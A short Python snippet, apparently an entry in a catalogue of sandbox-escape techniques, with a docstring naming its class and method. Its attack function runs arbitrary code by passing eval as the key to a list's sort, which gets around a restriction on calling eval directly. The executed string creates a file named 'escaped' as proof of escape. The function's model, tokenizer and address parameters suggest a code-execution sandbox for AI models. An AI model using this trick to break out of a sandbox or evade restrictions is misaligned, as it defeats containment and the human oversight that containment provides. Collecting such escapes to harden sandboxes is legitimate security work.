"""Class: builtins. Source: own find. Escape: a list's own `sort` calls what is not listed."""


def attack(model, tokenizer, address):
    ["open('escaped', 'w').close() or 1"].sort(key=eval)
